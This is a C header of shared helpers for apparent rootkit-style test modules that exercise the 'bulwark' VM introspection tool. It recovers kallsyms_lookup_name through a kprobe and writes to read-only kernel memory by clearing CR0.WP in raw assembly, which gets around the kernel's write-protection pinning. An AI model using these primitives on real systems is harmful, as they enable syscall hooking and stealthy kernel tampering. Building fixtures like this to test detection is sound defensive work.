/* SPDX-License-Identifier: GPL-2.0 */
/*
 * Helpers shared by the bulwark VMI attack modules (tests/vmi-attacks/).
 *
 * These modules deliberately do what rootkits do so that bulwark's introspection has real
 * tampering to find. They are test fixtures for a throwaway guest: never load them on a host.
 *
 * Two helpers:
 *
 *  - vmi_lookup_name(): kallsyms_lookup_name() has not been exported to modules since 5.7,
 *    but kprobes still resolve symbol names. Registering a kprobe on "kallsyms_lookup_name"
 *    makes the kprobe core fill in kp.addr with that function's address; we unregister the
 *    probe at once and call the function through the pointer. With CONFIG_KALLSYMS_ALL
 *    (Debian: yes) it resolves data symbols too (tasklist_lock, module_mutex,
 *    sys_call_table, text_mutex).
 *
 *  - vmi_poke_*(): write to read-only kernel memory (text, .rodata) by clearing CR0.WP for
 *    the duration of one store. write_cr0() cannot do it: since 5.3 native_write_cr0() pins
 *    WP (it sets the bit again and warns), so we issue "mov %reg, %cr0" ourselves. Interrupts
 *    are off in between (which also disables preemption), so nothing else runs on this CPU
 *    with WP clear, and the task cannot migrate to a CPU whose CR0 still has WP set.
 */
#ifndef VMI_ATTACK_H
#define VMI_ATTACK_H

#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/irqflags.h>
#include <asm/special_insns.h>
#include <asm/processor-flags.h>

typedef unsigned long (*vmi_kallsyms_lookup_name_t)(const char *name);

/* Address of any kernel symbol (function or data), or 0 when unknown. */
static unsigned long vmi_lookup_name(const char *name)
{
	static vmi_kallsyms_lookup_name_t lookup;

	if (!lookup) {
		struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
		int err = register_kprobe(&kp);

		if (err < 0) {
			pr_err("vmi-attack: cannot kprobe kallsyms_lookup_name: %d\n", err);
			return 0;
		}
		lookup = (vmi_kallsyms_lookup_name_t)kp.addr;
		unregister_kprobe(&kp);
	}
	return lookup(name);
}

/*
 * CR0 write that bypasses the kernel's CR pinning. "+r" and the memory clobber keep the
 * compiler from moving memory accesses across it (the same constraints native_write_cr0 uses).
 */
static inline void vmi_raw_write_cr0(unsigned long val)
{
	asm volatile("mov %0, %%cr0" : "+r"(val) : : "memory");
}

/* Store one byte at a read-only kernel address. */
static inline void vmi_poke_u8(u8 *dst, u8 val)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = native_read_cr0();
	vmi_raw_write_cr0(cr0 & ~X86_CR0_WP);
	WRITE_ONCE(*dst, val);
	vmi_raw_write_cr0(cr0);
	local_irq_restore(flags);
}

/* Store one naturally aligned pointer-sized word (a single, atomic 8-byte store). */
static inline void vmi_poke_ulong(unsigned long *dst, unsigned long val)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = native_read_cr0();
	vmi_raw_write_cr0(cr0 & ~X86_CR0_WP);
	WRITE_ONCE(*dst, val);
	vmi_raw_write_cr0(cr0);
	local_irq_restore(flags);
}

#endif /* VMI_ATTACK_H */
